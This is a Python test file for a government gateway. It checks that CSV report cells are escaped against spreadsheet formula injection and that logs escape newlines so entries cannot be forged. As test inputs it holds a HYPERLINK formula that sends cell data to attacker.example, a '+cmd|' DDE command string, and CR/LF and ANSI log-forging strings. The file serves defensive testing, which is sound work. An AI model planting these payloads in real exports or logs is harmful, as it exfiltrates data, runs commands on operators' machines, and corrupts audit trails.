"""Issue 18 item 11: what operators open must not execute what agencies wrote. A unit named
`=HYPERLINK(…)` registered over VXP is shown as text in the monthly report CSV; `%0A` in a URL
path cannot forge a line of the server log."""

from __future__ import annotations

import csv
import io
import logging

from asgi_probe import call

from gateway.csv_out import safe_cell
from gateway.observability.logging import configure_logging

H41 = "000.00.00.H41"
SUB = "000.01.00.H41"
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


async def test_formula_in_a_unit_name_is_text_in_the_report_csv(gw) -> None:
    # the name reaches the report the same way whether registered over VXP or the admin API
    await gw.add_agency(H41)
    await gw.add_agency(SUB, FORMULA, parent_code=H41)
    r = await gw.http.get(
        "/api/v1/admin/reports/monthly",
        params={"month": "2026-10", "format": "csv"},
        headers=await gw.admin(),
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = [row[rows[0].index("agency_name")] for row in rows[1:]]
    assert "'" + FORMULA in names  # text, UTF-8 intact
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


def test_safe_cell_keeps_numbers_and_plain_text() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell("-5") == "-5"
    assert safe_cell("+84.5") == "+84.5"
    assert safe_cell("Sở Tư pháp") == "Sở Tư pháp"
    for evil in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(evil) == "'" + evil


async def test_newline_in_a_path_does_not_forge_a_log_line(gw) -> None:
    stream = io.StringIO()
    configure_logging("text", "info", stream=stream)
    try:
        forged = "/api/v1/x\n2026-12-01 10:00:00,000 INFO gateway.http [-] POST /api/v1/admin 200"
        raw = forged.replace("\n", "%0A").replace(" ", "%20").encode()
        r = await call(gw.app, "GET", forged, raw_path=raw)
        assert r.status == 404
        logging.getLogger("gateway.test").info("agency %s", "A80\r\nFAKE LINE\x1b[31m")
    finally:
        configure_logging("text", "info")
    lines = stream.getvalue().splitlines()
    assert not any(line.startswith("2026-12-01 10:00:00,000") for line in lines), lines
    assert any("/api/v1/x\\n2026-12-01" in line for line in lines), lines
    assert any("A80\\r\\nFAKE LINE\\x1b[31m" in line for line in lines), lines
